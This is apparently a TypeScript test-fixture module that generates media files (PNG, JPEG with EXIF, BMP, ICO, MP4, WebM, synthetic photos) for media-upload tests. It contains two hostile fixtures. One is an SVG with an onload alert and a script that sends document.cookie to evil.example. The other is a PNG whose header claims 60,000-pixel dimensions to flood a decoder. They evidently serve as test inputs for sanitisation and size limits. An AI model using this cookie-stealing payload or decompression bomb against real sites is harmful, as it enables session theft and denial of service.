import sharp from 'sharp';
import { crc32 } from 'node:zlib';

// Files for the media tests, made on the fly so the repository holds no binary fixtures.

export function solid(width: number, height: number, background = { r: 200, g: 30, b: 60 }): sharp.Sharp {
  return sharp({ create: { width, height, channels: 3, background } });
}

export const png = (width = 64, height = 48) => solid(width, height).png().toBuffer();
export const gif = (width = 32, height = 32) => solid(width, height).gif().toBuffer();
export const webp = (width = 32, height = 32) => solid(width, height).webp().toBuffer();

/** A photo as phones make them: stored sideways with an orientation tag, plus identifying EXIF. */
export function jpegWithExif(width = 80, height = 40): Promise<Buffer> {
  return solid(width, height)
    .jpeg()
    .withExif({ IFD0: { Artist: 'Owner Name', Copyright: 'Private', ImageDescription: 'home address' } })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

/** Random pixels compress badly, which makes a small picture a big file. */
export async function noisyPng(width: number, height: number): Promise<Buffer> {
  const raw = Buffer.alloc(width * height * 3);
  for (let i = 0; i < raw.length; i++) raw[i] = ((i * 2654435761) >>> 24) ^ (i & 0xff);
  return sharp(raw, { raw: { width, height, channels: 3 } })
    .png({ compressionLevel: 0 })
    .toBuffer();
}

/** A valid small PNG whose header claims a huge size: decoding it would need gigabytes. */
export async function pixelFloodPng(width = 60_000, height = 60_000): Promise<Buffer> {
  const buf = Buffer.from(await png(1, 1));
  // IHDR starts at byte 8: length(4) 'IHDR'(4) width(4) height(4) …, CRC over type+data.
  buf.writeUInt32BE(width, 16);
  buf.writeUInt32BE(height, 20);
  buf.writeUInt32BE(crc32(buf.subarray(12, 29)), 29);
  return buf;
}

/** A 24-bit uncompressed Windows bitmap. */
export async function bmp(width = 20, height = 10): Promise<Buffer> {
  const { data } = await solid(width, height, { r: 10, g: 120, b: 240 }).raw().toBuffer({ resolveWithObject: true });
  const stride = Math.floor((24 * width + 31) / 32) * 4;
  const out = Buffer.alloc(54 + stride * height);
  out.write('BM', 0, 'latin1');
  out.writeUInt32LE(out.length, 2);
  out.writeUInt32LE(54, 10);
  out.writeUInt32LE(40, 14);
  out.writeInt32LE(width, 18);
  out.writeInt32LE(height, 22);
  out.writeUInt16LE(1, 26);
  out.writeUInt16LE(24, 28);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const src = (y * width + x) * 3;
      const dst = 54 + (height - 1 - y) * stride + x * 3;
      out[dst] = data[src + 2]!;
      out[dst + 1] = data[src + 1]!;
      out[dst + 2] = data[src]!;
    }
  }
  return out;
}

/** An icon file holding one PNG picture. */
export async function ico(size = 32): Promise<Buffer> {
  const image = await png(size, size);
  const header = Buffer.alloc(22);
  header.writeUInt16LE(0, 0);
  header.writeUInt16LE(1, 2);
  header.writeUInt16LE(1, 4);
  header[6] = size % 256;
  header[7] = size % 256;
  header.writeUInt16LE(1, 10);
  header.writeUInt16LE(32, 12);
  header.writeUInt32LE(image.length, 14);
  header.writeUInt32LE(22, 18);
  return Buffer.concat([header, image]);
}

/** The start of an MP4 file (the `ftyp` box that identifies the container, then media data). */
export function mp4(extraBytes = 1024): Buffer {
  const ftyp = Buffer.alloc(24);
  ftyp.writeUInt32BE(24, 0);
  ftyp.write('ftypisom', 4, 'latin1');
  ftyp.writeUInt32BE(0x200, 12);
  ftyp.write('isommp42', 16, 'latin1');
  const mdat = Buffer.alloc(8 + extraBytes);
  mdat.writeUInt32BE(mdat.length, 0);
  mdat.write('mdat', 4, 'latin1');
  return Buffer.concat([ftyp, mdat]);
}

/** The start of a WebM file (EBML header naming the webm document type). */
export function webm(): Buffer {
  const docType = Buffer.from([0x42, 0x82, 0x84, ...Buffer.from('webm')]);
  const header = Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x80 | docType.length]), docType]);
  return Buffer.concat([header, Buffer.alloc(512)]);
}

export const SVG_WITH_SCRIPT =
  '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="alert(document.cookie)">' +
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>' +
  '<circle cx="20" cy="20" r="18" fill="#0a7"/></svg>';

/**
 * A picture with a photo's structure (shapes, gradients, texture), different for each `seed`: what the duplicate
 * checks compare. A JPEG, as a camera gives it.
 */
export function photo(seed: number, width = 640, height = 480): Promise<Buffer> {
  const rand = (n: number) => {
    const x = Math.sin(seed * 9301 + n * 49297) * 233280;
    return x - Math.floor(x);
  };
  const colour = (n: number) =>
    `rgb(${Math.floor(rand(n) * 255)},${Math.floor(rand(n + 1) * 255)},${Math.floor(rand(n + 2) * 255)})`;
  const shapes = Array.from({ length: 14 }, (_, i) => {
    const x = Math.floor(rand(10 + i * 7) * width);
    const y = Math.floor(rand(11 + i * 7) * height);
    const r = 20 + Math.floor(rand(12 + i * 7) * 140);
    return i % 2
      ? `<circle cx="${x}" cy="${y}" r="${r}" fill="${colour(13 + i * 7)}"/>`
      : `<rect x="${x - r}" y="${y - r / 2}" width="${r * 2}" height="${r}" fill="${colour(13 + i * 7)}"/>`;
  }).join('');
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <defs><linearGradient id="g" x1="0" y1="0" x2="${rand(1)}" y2="1"><stop offset="0" stop-color="${colour(2)}"/><stop offset="1" stop-color="${colour(5)}"/></linearGradient></defs>
    <rect width="${width}" height="${height}" fill="url(#g)"/>${shapes}</svg>`;
  return sharp(Buffer.from(svg)).jpeg({ quality: 90 }).toBuffer();
}

/** The same picture as someone re-posting it would send it: made smaller (80%) and re-encoded as WebP at 70%. */
export async function resizedCopy(original: Buffer): Promise<Buffer> {
  const meta = await sharp(original).metadata();
  return sharp(original)
    .resize(Math.round((meta.width ?? 100) * 0.8))
    .webp({ quality: 70 })
    .toBuffer();
}
